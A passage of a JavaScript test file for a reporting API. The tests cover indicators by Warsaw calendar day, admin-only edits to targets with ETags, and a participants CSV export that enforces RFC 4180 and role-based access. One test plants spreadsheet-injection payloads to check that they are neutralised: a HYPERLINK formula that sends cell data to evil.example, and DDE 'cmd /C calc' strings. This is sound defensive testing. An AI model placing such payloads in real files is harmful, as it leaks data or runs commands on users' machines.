test('from/to are inclusive Warsaw calendar days: April 2041 holds the delivery of 2041-03-31T22:30:00Z and not the one of 2041-04-30T22:00:00Z', async () => {
  assert.deepEqual(await indicators(APRIL), EXPECT_APRIL);
});

test('from/to and partner together: April 2041 of byczyna', async () => {
  assert.deepEqual(await indicators(`${APRIL}&partner=byczyna`), EXPECT_APRIL_BYCZYNA);
});

test('a single Warsaw day: 2041-04-01 holds 2041-03-31T22:30:00Z (00:30 CEST), 2041-03-31 holds 2041-03-31T21:59:59Z', async () => {
  const apr1 = await indicators('from=2041-04-01&to=2041-04-01');
  assert.deepEqual(apr1.period, { from: '2041-04-01', to: '2041-04-01', partner: null });
  // D4 only: advisory 1.5 h for E2 and B2
  assert.deepEqual(apr1.by_service_kind.advisory, k(1, 1.5, 1, 1));
  assert.equal(KINDS.reduce((n, kind) => n + apr1.by_service_kind[kind].deliveries, 0), 1);
  assert.equal(apr1.beneficiaries.total, 1);
  assert.deepEqual(apr1.es_entities, { supported: 1, social_cooperatives: 1, target: 50, share_of_target: 0.02 });
  const mar31 = await indicators('from=2041-03-31&to=2041-03-31');
  // D7 only: information 0.75 h for E3 and B4
  assert.deepEqual(mar31.by_service_kind.information, k(1, 0.75, 1, 1));
  assert.equal(KINDS.reduce((n, kind) => n + mar31.by_service_kind[kind].deliveries, 0), 1);
  assert.deepEqual(mar31.beneficiaries.by_partner, { byczyna: 0, chorzow: 1 });
});

test('the first and last Warsaw days of 2041 hold 2040-12-31T23:00:00Z and 2041-12-31T22:59:59Z, not a second more', async () => {
  const jan1 = await indicators('from=2041-01-01&to=2041-01-01');
  // D15 only (D17 at 2040-12-31T22:59:59Z is 2040 in Warsaw)
  assert.deepEqual(jan1.by_service_kind.information, k(1, 0.5, 1, 1));
  assert.equal(KINDS.reduce((n, kind) => n + jan1.by_service_kind[kind].deliveries, 0), 1);
  assert.equal(jan1.by_service_kind.advisory.deliveries, 0);
  const dec31 = await indicators('from=2041-12-31&to=2041-12-31');
  // D16 only (D18 at 2041-12-31T23:00:00Z is 2042 in Warsaw: its 100 guests are not here)
  assert.deepEqual(dec31.by_service_kind.training, k(1, 1, 0, 1));
  assert.equal(KINDS.reduce((n, kind) => n + dec31.by_service_kind[kind].deliveries, 0), 1);
  assert.deepEqual(dec31.seminars, { count: 0, beneficiary_attendees: 0, guests: 0 });
  // only from, or only to: the other end open (this year's part of each checked against the dataset)
});

test('an open end of the period counts every year on that side: at least the dataset\'s deliveries there', async () => {
  // Other test files write deliveries of other years at the same time, so
  // only lower bounds can be known here.
  const fromDec = await indicators('from=2041-12-31');
  assert.deepEqual(fromDec.period, { from: '2041-12-31', to: null, partner: null });
  // D16 (training, 31 December) and D18 (seminar of 2042, 100 guests)
  assert.ok(fromDec.by_service_kind.training.deliveries >= 1, JSON.stringify(fromDec.by_service_kind.training));
  assert.ok(fromDec.seminars.count >= 1 && fromDec.seminars.guests >= 100, JSON.stringify(fromDec.seminars));
  const toJan = await indicators('to=2041-01-01');
  assert.deepEqual(toJan.period, { from: null, to: '2041-01-01', partner: null });
  // D15 (information, 1 January) and D17 (advisory of 2040, 3 h)
  assert.ok(toJan.by_service_kind.information.deliveries >= 1);
  assert.ok(toJan.by_service_kind.advisory.deliveries >= 1 && toJan.by_service_kind.advisory.hours >= 3);
  const all = await indicators('');
  assert.deepEqual(all.period, { from: null, to: null, partner: null });
  for (const kind of KINDS) {
    assert.ok(all.by_service_kind[kind].deliveries >= EXPECT_YEAR.by_service_kind[kind].deliveries + (kind === 'advisory' || kind === 'seminar' ? 1 : 0), kind);
  }
  assert.ok(all.seminars.guests >= 117, `12 + 5 + 100 guests at least: ${all.seminars.guests}`);
  assert.ok(all.beneficiaries.total >= 8, 'B1-B6, B8 (D18) and B9 (D17) at least');
});

test('high_poverty_gminas follows the gminas\' flag as an admin sets it', async () => {
  try {
    await setHighPoverty(HIGH_POVERTY, false);
    const d = await indicators(YEAR);
    assert.equal(d.beneficiaries.high_poverty_gminas, 0); // B2, B5 live in Zawadzkie, no longer high-poverty
    assert.equal(d.beneficiaries.total, 6);
  } finally {
    await setHighPoverty(HIGH_POVERTY, true);
  }
  assert.equal((await indicators(YEAR)).beneficiaries.high_poverty_gminas, 2);
});

test('before the deletes the same year counted the deleted delivery, beneficiary and ES entities (the erasure changes nothing)', () => {
  const res = snapshotBeforeDeletes;
  assert.ok(res, 'the snapshot was taken');
  contract.checkResponse('GET', `/v1/reports/indicators?${YEAR}`, res.status, res.headers, res.text);
  assert.equal(res.status, 200, res.text);
  // As EXPECT_YEAR plus D12 (legal, 2 h, E5; B9, B1), B7 (D6 seminar, D14
  // marketing) and the entities E5 and E6.
  assert.deepEqual(res.json, doc({
    from: '2041-01-01',
    to: '2041-12-31',
    // E1 E2 E3 E4 E5 E6; cooperatives E1 E2 E5 (E6 is a plain cooperative); 6 / 50
    es: { supported: 6, social_cooperatives: 3, target: 50, share_of_target: 0.12 },
    kinds: {
      advisory: k(3, 5, 3, 4),
      legal: k(2, 3.25, 2, 4), // D2 1.25 + D12 2; E2, E5; B2, B3, B9, B1
      financial: k(1, 2, 1, 2),
      marketing: k(2, 5, 1, 2), // E6; B6, B7
      information: k(2, 1.25, 2, 1),
      training: k(3, 15, 0, 5),
      seminar: k(3, 7.5, 1, 5), // B1, B5, B6, B7, B2
    },
    ben: {
      total: 8, // B1-B7, B9
      gender: { female: 5, male: 3 }, // + B7, B9
      education: { none: 2, primary: 1, lower_secondary: 1, upper_secondary: 1, tertiary: 2, unknown: 1 },
      labour: { employed: 1, unemployed: 2, long_term_unemployed: 1, inactive: 2, self_employed: 1, unknown: 1 },
      partner: { byczyna: 5, chorzow: 3 },
      powiat: { 1601: 1, 1603: 1, 1604: 2, 1611: 2, 1661: 1, 1607: 1 }, // + B7 (Brzeg), B9 (Kędzierzyn-Koźle)
      high_poverty: 2,
    },
    seminars: { count: 3, beneficiary_attendees: 7, guests: 17 }, // + B7 on D6
  }));
});

test('every authenticated role may read the indicators and sees the same numbers', async () => {
  for (const [label, who] of everyone) {
    const res = await get(`/v1/reports/indicators?${YEAR}`, who);
    assert.equal(res.status, 200, `${label}: ${res.status} ${res.text}`);
    assert.deepEqual(res.json, EXPECT_YEAR, label);
  }
});

test('the report routes without a token are 401', async () => {
  for (const path of [`/v1/reports/indicators?${YEAR}`, '/v1/reports/targets', `/v1/reports/participants.csv?${YEAR}`]) {
    expectProblem(await get(path, null), 401);
  }
  expectProblem(await api(server, 'PATCH', '/v1/reports/targets', {
    headers: { 'Content-Type': 'application/merge-patch+json', 'If-Match': '"1"' }, body: { seminars: 1 },
  }), 401);
});

// Bad parameters of both period reports: [query, the parameter named].
const BAD_PERIODS = [
  ['from=2041-05-01&to=2041-04-30', 'from'], // from after to
  ['from=2041-02-30', 'from'],
  ['to=2041-02-30', 'to'],
  ['from=20410101', 'from'],
  ['to=20411231', 'to'],
  ['from=2041-1-01', 'from'],
  ['to=2041-12-31T00:00:00Z', 'to'],
  ['from=', 'from'],
  ['from=2040-02-30&to=2041-01-01', 'from'],
  ['partner=gdansk', 'partner'],
  ['partner=BYCZYNA', 'partner'],
  ['partner=', 'partner'],
  ['year=2041', 'year'],
  [`${YEAR}&kind=seminar`, 'kind'],
  ['from=2041-01-01&from=2041-02-01', 'from'], // repeated
];

test('bad parameters of /v1/reports/indicators are 400 naming the parameter', async () => {
  for (const [query, field] of BAD_PERIODS) {
    const p = expectProblem(await get(`/v1/reports/indicators?${query}`, coordinator.chorzow), 400);
    assert.equal(firstErrorField(p), field, query);
  }
  // 2040-02-29 is a date (a leap year), 2041-02-29 is not
  await indicators('from=2040-02-29&to=2041-01-01');
  const p = expectProblem(await get('/v1/reports/indicators?to=2041-02-29'), 400);
  assert.equal(firstErrorField(p), 'to');
});

// ---------------------------------------------------------------------------
// targets

const TARGET_FIELDS = ['advisory_hours', 'es_entities_supported', 'seminars', 'training_participants', 'updated_at', 'version'];

function patchTargets(who, body, ifMatch, extra = {}) {
  const headers = { ...who.headers, 'Content-Type': 'application/merge-patch+json', ...extra };
  if (ifMatch) headers['If-Match'] = ifMatch;
  return api(server, 'PATCH', '/v1/reports/targets', { headers, body });
}

async function currentTargets(who = admin) {
  const res = await get('/v1/reports/targets', who);
  assert.equal(res.status, 200, res.text);
  return res;
}

test('GET /v1/reports/targets answers the four targets, version and updated_at with an ETag; If-None-Match answers 304', async () => {
  const res = await currentTargets();
  assert.deepEqual(Object.keys(res.json).sort(), TARGET_FIELDS);
  assert.equal(res.json.es_entities_supported, 50);
  for (const f of ['advisory_hours', 'training_participants', 'seminars']) {
    assert.ok(res.json[f] === null || typeof res.json[f] === 'number', `${f}: ${res.json[f]}`);
  }
  assert.ok(Number.isInteger(res.json.version) && res.json.version >= 1);
  assert.match(res.json.updated_at, TIMESTAMP);
  assert.equal(res.headers.get('etag'), `"${res.json.version}"`);
  const again = await get('/v1/reports/targets', admin, { headers: { ...admin.headers, 'If-None-Match': res.headers.get('etag') } });
  assert.equal(again.status, 304);
  assert.equal(again.text, '');
  assert.equal(again.headers.get('etag'), res.headers.get('etag'));
  const stale = await get('/v1/reports/targets', admin, { headers: { ...admin.headers, 'If-None-Match': '"999999"' } });
  assert.equal(stale.status, 200);
});

test('every role may GET /v1/reports/targets', async () => {
  for (const [label, who] of everyone) {
    const res = await get('/v1/reports/targets', who);
    assert.equal(res.status, 200, `${label}: ${res.status} ${res.text}`);
    assert.equal(res.json.es_entities_supported, 50, label);
  }
});

test('GET /v1/reports/targets with a query parameter is 400 naming it', async () => {
  const p = expectProblem(await get('/v1/reports/targets?x=1'), 400);
  assert.equal(firstErrorField(p), 'x');
});

test('PATCH /v1/reports/targets by anyone but an admin is 403, even with If-Match', async () => {
  const cur = await currentTargets();
  for (const [label, who] of everyone.filter(([, u]) => u.role !== 'admin')) {
    const withEtag = await patchTargets(who, { seminars: 3 }, cur.headers.get('etag'));
    assert.equal(withEtag.status, 403, `${label}: ${withEtag.status} ${withEtag.text}`);
    expectProblem(withEtag, 403);
    const without = await patchTargets(who, { seminars: 3 }); // permission before If-Match
    assert.equal(without.status, 403, `${label} without If-Match: ${without.status} ${without.text}`);
    expectProblem(without, 403);
  }
  const after = await currentTargets();
  assert.deepEqual(after.json, cur.json, 'nothing changed');
});

test('PATCH /v1/reports/targets without If-Match is 428; with a stale one 412 carrying the current ETag', async () => {
  const cur = await currentTargets();
  expectProblem(await patchTargets(admin, { seminars: 3 }), 428);
  expectProblem(await patchTargets(admin, { seminars: -1 }), 428); // If-Match before the body
  const res = await patchTargets(admin, { seminars: 3 }, `"${cur.json.version + 1000}"`);
  expectProblem(res, 412);
  assert.equal(res.headers.get('etag'), cur.headers.get('etag'), 'the 412 carries the current ETag');
  assert.deepEqual((await currentTargets()).json, cur.json, 'nothing changed');
});

test('PATCH /v1/reports/targets with bad values or unknown fields is 422 naming every field', async () => {
  const cur = await currentTargets();
  const etagNow = cur.headers.get('etag');
  const cases = [
    [{ es_entities_supported: -1 }, ['es_entities_supported']],
    [{ es_entities_supported: '50' }, ['es_entities_supported']],
    [{ es_entities_supported: 1.5 }, ['es_entities_supported']],
    [{ training_participants: true }, ['training_participants']],
    [{ seminars: {} }, ['seminars']],
    [{ seminars: [3] }, ['seminars']],
    [{ advisory_hours: -0.5 }, ['advisory_hours']],
    [{ advisory_hours: 1.555 }, ['advisory_hours']], // never rounded
    [{ advisory_hours: '12' }, ['advisory_hours']],
    [{ bogus: 1 }, ['bogus']],
    [{ version: 7 }, ['version']],
    [{ updated_at: '2041-01-01T00:00:00Z' }, ['updated_at']],
    [{ es_entities_supported: -1, seminars: 'x', bogus: 1 }, ['bogus', 'es_entities_supported', 'seminars']],
  ];
  for (const [body, fields] of cases) {
    const p = expectProblem(await patchTargets(admin, body, etagNow), 422);
    assert.ok(Array.isArray(p.errors), JSON.stringify(p));
    assert.deepEqual([...new Set(p.errors.map((e) => e.field))].sort(), fields, JSON.stringify(body));
    if (fields.includes('bogus')) assert.equal(p.errors.find((e) => e.field === 'bogus').code, 'unknown_field');
  }
  assert.deepEqual((await currentTargets()).json, cur.json, 'nothing changed');
});

test('PATCH /v1/reports/targets with a body that is not JSON is 400; with text/plain 415; with a number past the column a 4xx, never a 5xx', async () => {
  const cur = await currentTargets();
  const etagNow = cur.headers.get('etag');
  const headers = { ...admin.headers, 'If-Match': etagNow };
  expectProblem(await api(server, 'PATCH', '/v1/reports/targets', {
    headers: { ...headers, 'Content-Type': 'application/merge-patch+json' }, rawBody: '{"seminars": ',
  }), 400);
  expectProblem(await api(server, 'PATCH', '/v1/reports/targets', {
    headers: { ...headers, 'Content-Type': 'application/merge-patch+json' }, rawBody: '[1]',
  }), 400);
  expectProblem(await api(server, 'PATCH', '/v1/reports/targets', {
    headers: { ...headers, 'Content-Type': 'text/plain' }, rawBody: '{"seminars": 1}',
  }), 415);
  for (const body of [{ seminars: 3000000000 }, { advisory_hours: 1e300 }, { training_participants: 1e20 }]) {
    const res = await patchTargets(admin, body, etagNow);
    // 422 (out of range), or 400 where the JSON parser itself refuses the number
    assert.ok(res.status === 422 || res.status === 400, `${JSON.stringify(body)}: ${res.status} ${res.text}`);
    expectProblem(res, res.status);
  }
  assert.deepEqual((await currentTargets()).json, cur.json, 'nothing changed');
});

test('PATCH /v1/reports/targets by an admin answers 200 with the document and a new ETag; null clears; audited', async () => {
  const cur = await currentTargets();
  try {
    const res = await patchTargets(admin, { advisory_hours: 120.5, training_participants: 40, seminars: 6 }, cur.headers.get('etag'));
    assert.equal(res.status, 200, res.text);
    assert.deepEqual(Object.keys(res.json).sort(), TARGET_FIELDS);
    assert.equal(res.json.version, cur.json.version + 1);
    assert.equal(res.headers.get('etag'), `"${cur.json.version + 1}"`);
    assert.deepEqual(
      [res.json.es_entities_supported, res.json.advisory_hours, res.json.training_participants, res.json.seminars],
      [50, 120.5, 40, 6],
    );
    assert.deepEqual((await currentTargets(integration)).json, res.json, 'a GET shows the change');
    // audited as resource reports/targets, with the names of the fields changed
    const audit = await setup('GET', `/v1/audit?resource=${encodeURIComponent('reports/targets')}&limit=5`, { headers: admin.headers });
    assert.equal(audit.status, 200, audit.text);
    const entry = audit.json.items[0];
    assert.ok(entry, 'an audit entry');
    assert.equal(entry.action, 'update');
    assert.equal(entry.resource, 'reports/targets');
    assert.equal(entry.actor, admin.id);
    assert.equal(entry.request_id, res.headers.get('x-request-id'));
    assert.deepEqual([...entry.fields].sort(), ['advisory_hours', 'seminars', 'training_participants']);

    // application/json works too; null clears; absent keeps
    const cleared = await patchTargets(admin, { advisory_hours: null, seminars: null }, res.headers.get('etag'), { 'Content-Type': 'application/json' });
    assert.equal(cleared.status, 200, cleared.text);
    assert.equal(cleared.json.advisory_hours, null);
    assert.equal(cleared.json.seminars, null);
    assert.equal(cleared.json.training_participants, 40);
    assert.equal(cleared.json.es_entities_supported, 50);
    assert.equal(cleared.json.version, cur.json.version + 2);
    // the old ETag is stale now
    expectProblem(await patchTargets(admin, { seminars: 1 }, res.headers.get('etag')), 412);
  } finally {
    await setTargets({
      es_entities_supported: cur.json.es_entities_supported, advisory_hours: cur.json.advisory_hours,
      training_participants: cur.json.training_participants, seminars: cur.json.seminars,
    });
  }
});

test('share_of_target follows the target: supported / target rounded to 4 decimals, null without a target', async () => {
  const share = async () => (await indicators(YEAR)).es_entities;
  try {
    // 4 entities supported in 2041
    await setTargets({ es_entities_supported: 7 });
    assert.deepEqual(await share(), { supported: 4, social_cooperatives: 2, target: 7, share_of_target: 0.5714 }); // 4/7 = 0.571428...
    await setTargets({ es_entities_supported: 3 });
    assert.deepEqual(await share(), { supported: 4, social_cooperatives: 2, target: 3, share_of_target: 1.3333 }); // 4/3, past the target
    await setTargets({ es_entities_supported: 6 });
    assert.equal((await share()).share_of_target, 0.6667); // 4/6 = 0.66666..., rounded up
    await setTargets({ es_entities_supported: 0 });
    assert.deepEqual(await share(), { supported: 4, social_cooperatives: 2, target: 0, share_of_target: null });
    await setTargets({ es_entities_supported: null });
    assert.deepEqual(await share(), { supported: 4, social_cooperatives: 2, target: null, share_of_target: null });
  } finally {
    await setTargets({ es_entities_supported: 50 });
  }
  assert.deepEqual(await share(), { supported: 4, social_cooperatives: 2, target: 50, share_of_target: 0.08 });
});

// ---------------------------------------------------------------------------
// participants.csv

/*
 * A strict RFC 4180 parser: records end with CRLF (the last one too),
 * fields are separated by commas, a field is either unquoted (no comma,
 * quote, CR or LF in it) or quoted (a quote inside doubled; commas, CR and
 * LF allowed). Anything else throws. Returns the records as arrays of
 * strings.
 */
function parseCsv(text) {
  const records = [];
  let record = [];
  let i = 0;
  const n = text.length;
  if (n === 0) return records;
  for (;;) {
    let value = '';
    if (text[i] === '"') {
      i++;
      for (;;) {
        if (i >= n) throw new Error('CSV: a quoted field is not closed');
        if (text[i] === '"') {
          if (text[i + 1] === '"') {
            value += '"';
            i += 2;
            continue;
          }
          i++;
          break;
        }
        value += text[i++];
      }
    } else {
      while (i < n && text[i] !== ',' && text[i] !== '\r' && text[i] !== '\n') {
        if (text[i] === '"') throw new Error(`CSV: a quote inside an unquoted field at offset ${i}`);
        value += text[i++];
      }
    }
    record.push(value);
    if (i >= n) throw new Error('CSV: the last record does not end with CRLF');
    if (text[i] === ',') {
      i++;
      continue;
    }
    if (text[i] === '\r' && text[i + 1] === '\n') {
      records.push(record);
      record = [];
      i += 2;
      if (i >= n) return records;
      continue;
    }
    throw new Error(`CSV: ${JSON.stringify(text.slice(i, i + 10))} after a field at offset ${i} (bare CR or LF, or text after a closing quote)`);
  }
}

test('the CSV parser of these tests reads RFC 4180', () => {
  assert.deepEqual(parseCsv('a,b\r\n"x, ""y""\nz",\r\n'), [['a', 'b'], ['x, "y"\nz', '']]);
  assert.deepEqual(parseCsv('"a\r\nb",c\r\n'), [['a\r\nb', 'c']]);
  assert.throws(() => parseCsv('a,b\n'), /bare CR or LF/);
  assert.throws(() => parseCsv('a,b'), /CRLF/);
  assert.throws(() => parseCsv('a"b\r\n'), /quote inside/);
  assert.throws(() => parseCsv('"a"b\r\n'), /after a field/);
  assert.throws(() => parseCsv('"a\r\n'), /not closed/);
});

/* GET the CSV; asserts 200, the headers and the header row; resolves to
 * {res, rows (objects by column)}. */
async function csv(query, who = admin) {
  const res = await get(`/v1/reports/participants.csv?${query}`, who);
  assert.equal(res.status, 200, `participants.csv?${query} as ${who.role}: ${res.status} ${res.text}`);
  assert.equal(res.headers.get('content-type'), 'text/csv; charset=utf-8');
  assert.equal(res.headers.get('content-disposition'), 'attachment; filename="participants.csv"');
  const records = parseCsv(res.text);
  assert.deepEqual(records[0], CSV_COLUMNS, 'the header row');
  const rows = records.slice(1).map((r, i) => {
    assert.equal(r.length, CSV_COLUMNS.length, `row ${i + 1} has ${CSV_COLUMNS.length} fields: ${JSON.stringify(r)}`);
    return Object.fromEntries(CSV_COLUMNS.map((c, j) => [c, r[j]]));
  });
  return { res, rows };
}

/*
 * The expected CSV row of beneficiary key for kind: hours summed ('2.50')
 * and the age at support start, worked out by hand in the tables below.
 */
function row(key, kind, hours, age) {
  const sent = B[key]._sent;
  const g = GMINAS[sent.teryt_gmina];
  const s = (v) => (v === null || v === undefined ? '' : String(v));
  return {
    beneficiary_id: B[key].id,
    partner: PEOPLE[key].partner,
    first_name: sent.first_name,
    last_name: sent.last_name,
    pesel: s(sent.pesel),
    gender: sent.gender,
    age_at_support_start: String(age),
    education: s(sent.education),
    labour_status: s(sent.labour_status),
    teryt_gmina: sent.teryt_gmina,
    gmina: g.name,
    powiat: g.powiat,
    street: sent.street,
    postal_code: sent.postal_code,
    email: sent.email,
    phone: `'${sent.phone}`, // a text cell that begins with + is neutralised (CSV injection)
    es_entity: PEOPLE[key].es ? E[PEOPLE[key].es].name : '',
    support_start: s(sent.support_start),
    support_end: s(sent.support_end),
    service_kind: kind,
    hours,
  };
}

/* B6 after the erasure: no names, no PII, no affiliation; the rest kept. */
function erasedRow(kind, hours) {
  return {
    ...row('B6', kind, hours, 81),
    first_name: '', last_name: '', pesel: '', street: '', postal_code: '', email: '', phone: '', es_entity: '',
  };
}

/*
 * Compares the CSV rows with the expected ones, row for row: the named
 * ones ordered by last_name (then id, then kind); the erased person's rows
 * (no last_name) all before or all after them. Its age: the birth date is
 * gone, so 81 (2041 - birth_year 1960, which here is also the exact age on
 * 2041-03-01 of someone born 1960-01-10) or empty are both accepted.
 */
function assertRows(actual, expected, what) {
  const isErased = (r) => r.beneficiary_id === B.B6.id;
  const named = actual.filter((r) => !isErased(r));
  const erased = actual.filter(isErased);
  assert.deepEqual(named, expected.filter((r) => !isErased(r)), `${what}: the named rows, in order`);
  const expectedErased = expected.filter(isErased);
  assert.equal(erased.length, expectedErased.length, `${what}: the erased person's rows`);
  erased.forEach((r, i) => {
    assert.ok(r.age_at_support_start === '' || r.age_at_support_start === '81', `erased age ${r.age_at_support_start}`);
    assert.deepEqual({ ...r, age_at_support_start: '81' }, expectedErased[i], `${what}: erased row ${i}`);
  });
  if (erased.length && named.length) {
    const first = actual.findIndex(isErased);
    assert.ok(first === 0 || first === named.length, `${what}: the erased rows are together at one end (at ${first})`);
    assert.ok(actual.slice(first, first + erased.length).every(isErased), `${what}: the erased rows are together`);
  }
  assert.equal(actual.length, expected.length, `${what}: row count`);
}

// 2041, every partner: one row per person and kind with attended: true on
// a delivery of that kind (D12 deleted, D17/D18 outside; B7 deleted, B8 and
// B9 none), ordered by last_name: Kowalska (B1), Lewandowski (B4), Mazur
// (B5), Nowak (B2), Zielińska (B3); then the erased B6.
// Ages: B1 1980-05-15 → 2041-02-01: 60; B4 1975-07-20 → 2041-06-01: 65;
// B5 1985-03-10 → 2041-01-10: 55; B3 2000-01-01 → 2041-01-15: 41; B2 (born
// 1991-04-01, no support_start): the Warsaw date of the first delivery of
// the row's kind: advisory D4 2041-04-01 (00:30 CEST; 2041-03-31 in UTC) → 50,
// legal D2 2041-02-05 → 49, seminar D11 2041-11-20 → 50, training D3
// 2041-02-10 → 49.
function expectYearRows() {
  return [
    row('B1', 'advisory', '2.50', 60), // D1
    row('B1', 'seminar', '6.00', 60), // D5 4 + D6 2
    row('B1', 'training', '6.00', 60), // D3
    row('B4', 'financial', '2.00', 65), // D9
    row('B4', 'information', '1.25', 65), // D7 0.75 + D15 0.5 (D13 false, D5 removed)
    row('B5', 'financial', '2.00', 55), // D9
    row('B5', 'seminar', '5.50', 55), // D5 4 + D11 1.5
    row('B5', 'training', '14.00', 55), // D3 6 + D10 8
    row('B2', 'advisory', '1.50', 50), // D4
    row('B2', 'legal', '1.25', 49), // D2
    row('B2', 'seminar', '1.50', 50), // D11
    row('B2', 'training', '6.00', 49), // D3
    row('B3', 'advisory', '2.50', 41), // D1
    row('B3', 'legal', '1.25', 41), // D2
    row('B3', 'training', '1.00', 41), // D16 (D10 false)
    erasedRow('advisory', '1.00'), // D13
    erasedRow('marketing', '3.00'), // D8 (its entity E6 deleted: the delivery counts)
    erasedRow('seminar', '4.00'), // D5
    erasedRow('training', '8.00'), // D10
  ];
}

test('participants.csv answers text/csv as an attachment: the header row exactly, CRLF line ends, no BOM', async () => {
  const { res } = await csv(YEAR);
  assert.ok(res.text.startsWith(`${CSV_HEADER}\r\n`), `starts with the header row: ${JSON.stringify(res.text.slice(0, 40))}`);
  assert.notEqual(res.text.charCodeAt(0), 0xfeff, 'no BOM');
  assert.ok(res.text.endsWith('\r\n'));
  // every line end outside quoted fields is CRLF: the parser refuses a bare LF
  // B1's last name, quoted, its quotes doubled, its LF kept
  assert.ok(res.text.includes(`,"Kowalska, ""Ania""\nII",`), 'the last name with a comma, quotes and a newline, as RFC 4180 writes it');
  assert.ok(res.text.includes(',"ul. Długa 1,\r\nm. 2",'), 'a street with a comma and a CRLF is quoted, the CRLF kept');
  // the erased person's empty fields are empty, not ""
  assert.ok(res.text.includes(`\r\n${B.B6.id},chorzow,,,,male,`), 'null fields are empty');
  assert.equal(res.headers.get('transfer-encoding'), 'chunked', 'streamed');
  assert.ok(res.text.includes(`,${B.B2.id},`) || res.text.includes(`\r\n${B.B2.id},`), 'plain fields are not quoted');
});

test('participants.csv for 2041 as admin: one row per beneficiary and kind received, row for row', async () => {
  const { rows } = await csv(YEAR);
  assertRows(rows, expectYearRows(), 'admin 2041');
});

test('participants.csv: the auditor sees every row with PII, as the admin', async () => {
  const { rows } = await csv(YEAR, auditor);
  assertRows(rows, expectYearRows(), 'auditor 2041');
});

test('participants.csv: a coordinator sees only its own partner\'s beneficiaries, with PII', async () => {
  const all = expectYearRows();
  const { rows: byc } = await csv(YEAR, coordinator.byczyna);
  // B1, B2, B3 (with every kind they received, from either partner)
  assertRows(byc, all.filter((r) => ['B1', 'B2', 'B3'].some((b) => r.beneficiary_id === B[b].id)), 'coordinator of byczyna');
  const { rows: cho } = await csv(YEAR, coordinator.chorzow);
  // B4, B5 and the erased B6
  assertRows(cho, all.filter((r) => ['B4', 'B5', 'B6'].some((b) => r.beneficiary_id === B[b].id)), 'coordinator of chorzow');
  // partner= selects the deliveries: byczyna's people at chorzow's deliveries
  // are B1 at the seminar D5 only (4 h)
  const { rows: cross } = await csv(`${YEAR}&partner=chorzow`, coordinator.byczyna);
  assertRows(cross, [row('B1', 'seminar', '4.00', 60)], 'coordinator of byczyna, deliveries of chorzow');
});

test('participants.csv?partner=byczyna has the rows of byczyna\'s deliveries only', async () => {
  const { rows } = await csv(`${YEAR}&partner=byczyna`);
  // D1, D2, D3, D4, D6, D11, D14 (B7 deleted), D16
  assertRows(rows, [
    row('B1', 'advisory', '2.50', 60), // D1
    row('B1', 'seminar', '2.00', 60), // D6
    row('B1', 'training', '6.00', 60), // D3
    row('B5', 'seminar', '1.50', 55), // D11
    row('B5', 'training', '6.00', 55), // D3
    row('B2', 'advisory', '1.50', 50), // D4
    row('B2', 'legal', '1.25', 49), // D2
    row('B2', 'seminar', '1.50', 50), // D11
    row('B2', 'training', '6.00', 49), // D3
    row('B3', 'advisory', '2.50', 41), // D1
    row('B3', 'legal', '1.25', 41), // D2
    row('B3', 'training', '1.00', 41), // D16
  ], 'admin, partner byczyna');
});

test('participants.csv for April 2041 (Warsaw days): the rows of D4, D5 and D6', async () => {
  const { rows } = await csv(APRIL);
  assertRows(rows, [
    row('B1', 'seminar', '6.00', 60), // D5 4 + D6 2
    row('B5', 'seminar', '4.00', 55), // D5
    row('B2', 'advisory', '1.50', 50), // D4 at 2041-04-01 00:30 Warsaw: born 1991-04-01, 50 that day
    erasedRow('seminar', '4.00'), // D5
  ], 'April');
});

test('participants.csv neutralises text cells a spreadsheet would run as a formula (=, +, -, @): quoted, after a single quote; numbers and dates as they are', async () => {
  // a day of 2043 that no other test uses; the rows are found by id anyway
  const DAY = 'from=2043-05-05&to=2043-05-05';
  const hostile = {
    first_name: '=HYPERLINK("http://evil.example/?d="&A1,"Kliknij")',
    last_name: `+cmd|' /C calc'!A0 ${T}`,
    street: '-2+3+cmd|\' /C calc\'!A0',
    entity: `@SUM(1+1)*cmd|' /C calc'!A0 ${T}`,
  };
  const entity = await made(admin, 'es-entities', { name: hostile.entity, legal_form: 'association', teryt_gmina: '1604013' });
  const person = await made(coordinator.byczyna, 'beneficiaries', {
    first_name: hostile.first_name, last_name: hostile.last_name, gender: 'female', birth_date: '1990-06-01',
    teryt_gmina: '1604013', consent_on: '2026-01-15', street: hostile.street, phone: '+48 600 100 200',
    es_entity_id: entity.id,
  });
  const plain = await made(coordinator.byczyna, 'beneficiaries', {
    first_name: `Jan ${T}`, last_name: 'Kowalski-Nowak', gender: 'male', teryt_gmina: '1604013', consent_on: '2026-01-15',
  });
  const delivery = await made(coordinator.byczyna, 'deliveries', {
    service_id: services.training.id, started_at: '2043-05-05T08:00:00Z', hours: 1.5, topic: `=1+1 ${T}`,
  });
  try {
    await attend(coordinator.byczyna, delivery, person, true);
    await attend(coordinator.byczyna, delivery, plain, true);
    const res = await get(`/v1/reports/participants.csv?${DAY}`, admin);
    assert.equal(res.status, 200, res.text);
    // as the bytes are: the quote inside the quoted field
    assert.ok(res.text.includes(`,"'=HYPERLINK(""http://evil.example/?d=""&A1,""Kliknij"")","'+cmd|' /C calc'!A0 ${T}",`),
      `the names are neutralised: ${res.text.slice(0, 800)}`);
    assert.ok(res.text.includes(`,"'-2+3+cmd|' /C calc'!A0",`), 'the street is neutralised');
    const { rows } = await csv(DAY);
    const mine = rows.find((r) => r.beneficiary_id === person.id);
    assert.ok(mine, `the person's row: ${JSON.stringify(rows)}`);
    assert.equal(mine.first_name, `'${hostile.first_name}`);
    assert.equal(mine.last_name, `'${hostile.last_name}`);
    assert.equal(mine.street, `'${hostile.street}`);
    assert.equal(mine.phone, "'+48 600 100 200");
    assert.equal(mine.es_entity, `'${hostile.entity}`);
    // the cells the service writes itself, and plain text, are untouched
    assert.equal(mine.hours, '1.50');
    assert.equal(mine.age_at_support_start, '52');
    assert.equal(mine.gmina, 'Byczyna');
    assert.equal(mine.service_kind, 'training');
    const other = rows.find((r) => r.beneficiary_id === plain.id);
    assert.ok(other, 'the plain person\'s row');
    assert.equal(other.last_name, 'Kowalski-Nowak');
    assert.equal(other.first_name, `Jan ${T}`);
    for (const r of rows) {
      for (const [column, value] of Object.entries(r)) {
        assert.ok(!/^[=+\-@\t\r]/.test(value), `no cell starts a formula: ${column} ${JSON.stringify(value)}`);
      }
    }
  } finally {
    await deleted(coordinator.byczyna, `/v1/deliveries/${delivery.id}`);
  }
});

test('participants.csv is 403 for the advisor and the integration', async () => {
  for (const who of [advisor.byczyna, advisor.chorzow, integration]) {
    expectProblem(await get(`/v1/reports/participants.csv?${YEAR}`, who), 403);
  }
});

test('bad parameters of participants.csv are 400 naming the parameter', async () => {
  for (const [query, field] of BAD_PERIODS) {
